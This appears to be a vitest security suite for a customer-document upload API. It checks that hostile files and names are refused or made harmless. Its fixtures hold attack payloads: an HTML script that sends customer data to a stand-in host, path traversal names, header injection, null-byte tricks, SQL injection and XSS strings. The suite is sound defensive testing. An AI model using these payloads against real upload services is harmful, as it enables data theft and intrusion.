import { existsSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getDb } from '@/db';
import { GET as DOWNLOAD } from '@/app/api/customers/[id]/documents/[docId]/route';
import { POST as UPLOAD } from '@/app/api/customers/[id]/documents/route';
import { receiveMultipartFile } from '@/lib/documents/multipart';
import { resetEnvCache } from '@/lib/env';
import { getStorage } from '@/lib/storage';
import { checkStorage } from '@/lib/storage/check';
import { createBearer, createCustomer } from '../factories';
import { documentRowCount, listUploadFiles, multipart, samples } from '../factories/documents';
import { call } from '../factories/http';
import { rowCounts } from './db-state';

/**
 * Upload attacks kept as a security suite (the documents API tests own the feature; this file only
 * replays hostile files and names through the real route with their factories). Every refusal:
 * error shape, no row, no file. Every accepted hostile name: a harmless label and a safe download.
 * After the whole file, storage and database agree (storage:check clean).
 */

let admin: string;
let customerId: string;
const MAX_MB = 1; // MAX_UPLOAD_MB lowered for this file so "limit + 1" stays cheap.

beforeAll(async () => {
  process.env.MAX_UPLOAD_MB = String(MAX_MB);
  resetEnvCache();
  admin = (await createBearer('admin')).authorization;
  customerId = (await createCustomer()).id;
});

afterAll(async () => {
  delete process.env.MAX_UPLOAD_MB;
  resetEnvCache();
});

function upload(
  file: Buffer | null,
  name: string,
  fields: Record<string, string> = { category: 'other' },
  clientType = 'application/pdf',
) {
  return call(UPLOAD, {
    method: 'POST',
    params: { id: customerId },
    auth: admin,
    rawBody: multipart(file, name, fields, clientType),
  });
}

const html = Buffer.from(
  '<!DOCTYPE html><html><body><script>fetch("/api/customers").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script></body></html>',
);
const png = samples.png();

// Refused outright: [label, file, name, fields, client type, status, code]
const REFUSED: [string, Buffer, string, Record<string, string>, string, number, string][] = [
  [
    'ELF executable named .pdf',
    samples.elf(),
    'facture.pdf',
    { category: 'invoice' },
    'application/pdf',
    415,
    'unsupported_media_type',
  ],
  [
    'PE executable named .pdf',
    samples.pe(),
    'facture.pdf',
    { category: 'invoice' },
    'application/pdf',
    415,
    'unsupported_media_type',
  ],
  [
    'SVG with a script',
    samples.svg(),
    'logo.svg',
    { category: 'photo' },
    'image/svg+xml',
    415,
    'unsupported_media_type',
  ],
  [
    'SVG with onload, named .png',
    samples.svgWithXmlDecl(),
    'logo.png',
    { category: 'photo' },
    'image/png',
    415,
    'unsupported_media_type',
  ],
  ['HTML named .png', html, 'photo.png', { category: 'photo' }, 'image/png', 415, 'unsupported_media_type'],
  [
    'HTML with a BOM, named .pdf',
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), html]),
    'devis.pdf',
    { category: 'quote' },
    'application/pdf',
    415,
    'unsupported_media_type',
  ],
  ['zero bytes', Buffer.alloc(0), 'vide.pdf', { category: 'other' }, 'application/pdf', 422, 'validation_failed'],
  [
    `MAX_UPLOAD_MB + 1 (${MAX_MB + 1} MB)`,
    Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc((MAX_MB + 1) * 1024 * 1024, 0x20)]),
    'gros.pdf',
    { category: 'report' },
    'application/pdf',
    413,
    'payload_too_large',
  ],
];

describe('hostile files', () => {
  it.each(REFUSED)('%s → refused, nothing stored', async (_label, file, name, fields, type, status, code) => {
    const rows = await rowCounts();
    const files = await listUploadFiles();
    const res = await upload(file, name, fields, type);
    expect(res.status).toBe(status);
    expect(res.body.error.code).toBe(code);
    expect(typeof res.body.error.message).toBe('string');
    expect(await rowCounts()).toEqual(rows);
    expect(await listUploadFiles()).toEqual(files);
  });

  it('polyglots are labelled by their real type and never served as something a browser runs', async () => {
    // A PDF carrying HTML, and a PNG with a script appended: accepted for what their bytes start as.
    const pdfHtml = Buffer.concat([samples.pdf(), html]);
    const pngJs = Buffer.concat([png, Buffer.from('<script>alert(document.domain)</script>')]);
    for (const [file, name, mime] of [
      [pdfHtml, 'poly.html', 'application/pdf'],
      [pngJs, 'poly.png.html', 'image/png'],
    ] as const) {
      const res = await upload(file, name, { category: 'other' }, 'text/html');
      expect(res.status).toBe(201);
      expect(res.body.mimeType).toBe(mime);
      for (const inline of [false, true]) {
        const dl = await call(DOWNLOAD, {
          params: { id: customerId, docId: res.body.id },
          auth: admin,
          query: inline ? { inline: '1' } : {},
        });
        expect(dl.status).toBe(200);
        expect(dl.headers.get('content-type')).toBe(mime);
        expect(dl.headers.get('x-content-type-options')).toBe('nosniff');
        // Inline previews: images are CSP-sandboxed; PDFs get default-src 'none' (Chromium's viewer refuses a sandbox).
        if (inline)
          expect(dl.headers.get('content-security-policy')).toMatch(
            mime === 'application/pdf' ? /default-src 'none'/ : /sandbox/,
          );
        else expect(dl.headers.get('content-disposition')).toMatch(/^attachment;/);
      }
    }
  });
});

describe('hostile names', () => {
  const NAMES: [string, string][] = [
    ['unix traversal', '../../etc/passwd'],
    ['windows traversal', '..\\..\\boot.ini'],
    ['control characters and a header break', 'fac\u0001ture\u001b[31m\r\nX-Injected: 1\r\n.pdf'],
    ['a null byte', 'facture.pdf\u0000.exe'],
    ['500 characters', `${'é'.repeat(496)}.pdf`],
    ['RTL override', 'photo\u202Egnp.exe'],
    ['only dots', '....'],
    ['quotes and semicolons', 'a";filename=evil.html;.pdf'],
  ];

  it.each(NAMES)(
    '%s → stored under a random key with a harmless label and a safe download header',
    async (_label, name) => {
      const res = await upload(samples.pdf(), name);
      if (res.status !== 201) {
        // Refusing a hostile name is acceptable too — with the error shape and nothing stored.
        expect(res.status).toBeGreaterThanOrEqual(400);
        expect(res.status).toBeLessThan(500);
        expect(typeof res.body.error.code).toBe('string');
        return;
      }
      const label: string = res.body.originalName;
      expect(label).not.toMatch(/[/\\\u0000-\u001f\u007f\u202a-\u202e]/);
      expect(label.startsWith('.')).toBe(false);
      expect(Array.from(label).length).toBeLessThanOrEqual(255);
      const files = await listUploadFiles();
      expect(files.every((f) => /^[0-9a-f]{2}[/\\][0-9a-f-]{36}$/.test(f))).toBe(true);
      const dl = await call(DOWNLOAD, { params: { id: customerId, docId: res.body.id }, auth: admin });
      const cd = dl.headers.get('content-disposition')!;
      expect(cd).toMatch(/^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~!$&+\-^`|#]*$/);
      expect(cd.slice(cd.indexOf('"') + 1, cd.lastIndexOf('"'))).not.toContain('"');
    },
  );

  it('hostile text fields (NUL, huge, script) next to the file do not cause a 500 or a stray file', async () => {
    for (const fields of <Record<string, string>[]>[
      { category: 'other', description: 'a\u0000b' },
      { category: 'other\u0000', description: 'x' },
      { category: 'other', description: 'x'.repeat(100_000) },
      { category: "other' OR 1=1 --" },
      { category: 'other', description: '<script>alert(1)</script>' },
    ]) {
      const files = await listUploadFiles();
      const rows = await documentRowCount();
      const res = await upload(samples.pdf(), 'a.pdf', fields);
      expect(res.status, JSON.stringify(fields).slice(0, 80)).toBeLessThan(500);
      if (res.status >= 400) {
        expect(typeof res.body.error.code).toBe('string');
        expect(await listUploadFiles()).toEqual(files);
        expect(await documentRowCount()).toBe(rows);
      } else {
        expect(res.body.description).toBe(fields.description);
      }
    }
  });
});

describe('a file refused after it was received', () => {
  // The route used to open a read stream on the temporary file before the fields were checked; refused, the
  // file was removed while that stream was still opening: ENOENT on a stream nobody listened to, an uncaught
  // exception that takes the whole server process down (seen on PostgreSQL, where the refusal is slower).
  it('never leaves a stream erroring on the removed temporary file (uncaught exception = server down)', async () => {
    const uncaught: unknown[] = [];
    const onUncaught = (error: unknown) => uncaught.push(error);
    process.on('uncaughtException', onUncaught);
    try {
      for (let i = 0; i < 30; i++) {
        const res = await upload(samples.pdf(), 'a.pdf', { category: 'not-a-category' });
        expect(res.status).toBe(422);
      }
      const interventionId = '00000000-0000-4000-8000-000000000000';
      for (let i = 0; i < 10; i++) {
        const res = await upload(samples.pdf(), 'a.pdf', { category: 'other', interventionId });
        expect(res.status).toBeGreaterThanOrEqual(400);
      }
      // Leave time for a late open to fail.
      await new Promise((r) => setTimeout(r, 200));
    } finally {
      process.off('uncaughtException', onUncaught);
    }
    expect(uncaught).toEqual([]);
  });

  it('remove() closes a stream opened and never read before deleting the file', async () => {
    // A Request built from FormData carries its multipart content type and boundary.
    const req = new Request('http://localhost/upload', {
      method: 'POST',
      body: multipart(samples.pdf(), 'a.pdf', { category: 'other' }),
    });
    const file = await receiveMultipartFile(req, { maxBytes: 1 << 20, stallMs: 5_000, fieldNames: ['category'] });
    const stream = file.open();
    const errors: unknown[] = [];
    stream.on('error', (e) => errors.push(e));
    await file.remove();
    expect(stream.destroyed).toBe(true);
    expect(existsSync(file.path)).toBe(false);
    await new Promise((r) => setTimeout(r, 50));
    expect(errors).toEqual([]);
  });
});

describe('after the whole suite', () => {
  it('storage:check is clean: no orphan file, no orphan row, no temporary file', async () => {
    const report = await checkStorage(getDb(), await getStorage());
    expect(report.orphanFiles).toEqual([]);
    expect(report.orphanRows).toEqual([]);
    expect(report.temporaryFiles).toEqual([]);
    expect(report.rows).toBe(await documentRowCount());
    expect(report.files).toBe(report.rows);
  });
});
